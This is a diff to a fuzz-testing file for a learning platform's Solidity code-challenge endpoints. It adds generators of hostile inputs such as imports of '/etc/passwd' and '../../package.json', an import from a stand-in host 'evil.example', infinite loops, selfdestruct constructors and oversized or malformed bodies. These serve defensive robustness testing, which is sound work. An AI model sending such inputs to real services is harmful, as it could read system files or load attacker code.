@@ -32,7 +32,7 @@ type Req = {
 	multipart?: Record<string, string | { name: string; mimeType: string; buffer: Buffer }>
 	accept?: string
 }
-type Ids = { real: string[]; paths: string[]; courses: string[]; lessons: string[]; modules: string[]; refs: { courseId: string; lessonId: string }[]; applications: string[] }
+type Ids = { real: string[]; paths: string[]; courses: string[]; lessons: string[]; modules: string[]; refs: { courseId: string; lessonId: string }[]; applications: string[]; challenges: string[] }
 type Target = {
 	who: Who[]
 	requests: (ids: Ids) => fc.Arbitrary<Req>
@@ -111,6 +111,38 @@ function hostileZip(): fc.Arbitrary<Buffer> {
 			for (const [name, body] of entries) files[name || 'x'] = new TextEncoder().encode(body)
 			return Buffer.from(zipSync(files))
 		}),
+	)
+}
+
+/** Solidity a learner (or an attacker) might send: fine, broken, hostile imports, endless loops, huge. */
+const solidity = fc.oneof(
+	fc.constantFrom(
+		'pragma solidity ^0.8.24; contract Counter { uint256 public count; function increment() external { count++; } }',
+		'contract A { function f() external { while (true) {} } }',
+		'contract A { function f(uint n) public returns (uint) { return f(n + 1); } }',
+		'import "/etc/passwd"; contract A {}',
+		'import "https://evil.example/x.sol"; contract A {}',
+		'import "../../package.json";',
+		'pragma solidity 0.4.0; contract A {}',
+		'contract A { constructor() { selfdestruct(payable(msg.sender)); } }',
+		'}}}{{{',
+		'x'.repeat(25 * 1024),
+	),
+	fc.string({ maxLength: 300 }),
+	hostileString,
+)
+
+/** A challenge route's JSON body, or something that is not one. */
+function challengeRequests(url: string, who: Who, body: fc.Arbitrary<Record<string, unknown>>): fc.Arbitrary<Req> {
+	return fc.oneof(
+		{ arbitrary: body.map((json) => ({ who, method: 'POST' as const, url, contentType: 'application/json', json })), weight: 5 },
+		{ arbitrary: anyJson.map((json) => ({ who, method: 'POST' as const, url, contentType: 'application/json', json })), weight: 1 },
+		{
+			arbitrary: fc
+				.record({ raw: fc.oneof(hostileString, pick('{"lessonId":', MEGABYTE)), contentType: pick('application/json', 'text/plain', 'application/x-www-form-urlencoded') })
+				.map(({ raw, contentType }) => ({ who, method: 'POST' as const, url, contentType, raw })),
+			weight: 1,
+		},
 	)
 }
 
@@ -394,6 +426,34 @@ const targets: Record<string, Target> = {
 		message: true,
 		requests: (ids) => hostileForm({ intent: pick('issue'), pathId: pick(...ids.paths) }).map((form) => ({ who: 'learner', method: 'POST', url: '/resources/certificates', form })),
 	},
+	'/resources/challenges/run': {
+		examples: (ids) => [
+			{ who: 'learner', method: 'POST', url: '/resources/challenges/run', contentType: 'application/json', json: { lessonId: ids.challenges[0], source: 'contract A {}\u0000' } },
+			{ who: 'learner', method: 'POST', url: '/resources/challenges/run', contentType: 'application/json', json: { lessonId: ids.challenges[0], source: 'x'.repeat(25 * 1024) } },
+			{ who: 'learner', method: 'POST', url: '/resources/challenges/run', contentType: 'application/json', json: { lessonId: ids.challenges[0], source: 'import "/etc/passwd"; contract A {}' } },
+			{ who: 'learner', method: 'POST', url: '/resources/challenges/run', contentType: 'application/json', json: { lessonId: ids.lessons[0], source: 'contract A {}' } },
+			{ who: 'learner', method: 'POST', url: '/resources/challenges/run', contentType: 'application/json', raw: MEGABYTE },
+		],
+		who: ['learner'],
+		message: true,
+		requests: (ids) =>
+			challengeRequests('/resources/challenges/run', 'learner', hostileJson({ lessonId: fc.oneof(pick(...ids.challenges), idOf(ids.lessons)), source: solidity })),
+	},
+	'/resources/challenges/draft': {
+		examples: (ids) => [{ who: 'learner', method: 'POST', url: '/resources/challenges/draft', contentType: 'application/json', json: { lessonId: ids.challenges[0], source: 'a\u0000b' } }],
+		who: ['learner'],
+		message: true,
+		requests: (ids) =>
+			challengeRequests('/resources/challenges/draft', 'learner', hostileJson({ lessonId: fc.oneof(pick(...ids.challenges), idOf(ids.lessons)), source: fc.oneof(solidity, fc.constant(null)) })),
+	},
+	'/resources/challenges/check': {
+		who: ['admin', 'learner'],
+		message: true,
+		requests: () =>
+			fc
+				.record({ who: pick<Who>('admin', 'admin', 'learner'), body: hostileJson({ starter: solidity, tests: solidity, solution: solidity }) })
+				.chain(({ who, body }) => challengeRequests('/resources/challenges/check', who, fc.constant(body))),
+	},
 	'/certificates/verify': {
 		examples: () => [{ who: 'anon', method: 'POST', url: '/certificates/verify', json: { certificate: '{}' }, contentType: 'application/json' }],
 		who: ['anon'],
@@ -597,12 +657,15 @@ test.describe('against a private production server', () => {
 			for (const lessonId of links(await (await ctx.learner.get(`/dashboard/learn/course/${courseId}`)).text(), /[?&;]lesson=([0-9a-f-]{36})/g)) refs.push({ courseId, lessonId })
 		}
 		const lessons = refs.map((r) => r.lessonId)
+		// Code challenges, read from the outline's lesson types.
+		const challenges: string[] = []
+		for (const courseId of courses) challenges.push(...links(await (await ctx.learner.get(`/dashboard/learn/course/${courseId}`)).text(), /data-lesson-type="challenge"[^>]*[?&;]lesson=([0-9a-f-]{36})/g))
 		const pages = await Promise.all(['paths', 'courses', 'modules', 'lessons'].map(async (s) => (await ctx.admin.get(`/dashboard/admin/${s}`)).text()))
 		const admin = pages.map(uuids)
 		const modules = links(pages[2]!, /data-testid="module-card" data-id="([0-9a-f-]{36})"/g)
 		const applications = uuids(await (await ctx.admin.get('/dashboard/admin/applications')).text())
-		ids = { real: [...new Set(admin.flat())], paths, courses, lessons, modules, refs, applications }
-		expect(paths.length && courses.length && lessons.length && modules.length && applications.length, JSON.stringify(ids).slice(0, 300)).toBeTruthy()
+		ids = { real: [...new Set(admin.flat())], paths, courses, lessons, modules, refs, applications, challenges: [...new Set(challenges)] }
+		expect(paths.length && courses.length && lessons.length && modules.length && applications.length && ids.challenges.length, JSON.stringify(ids).slice(0, 300)).toBeTruthy()
 	})
 
 	test.afterAll(async () => {
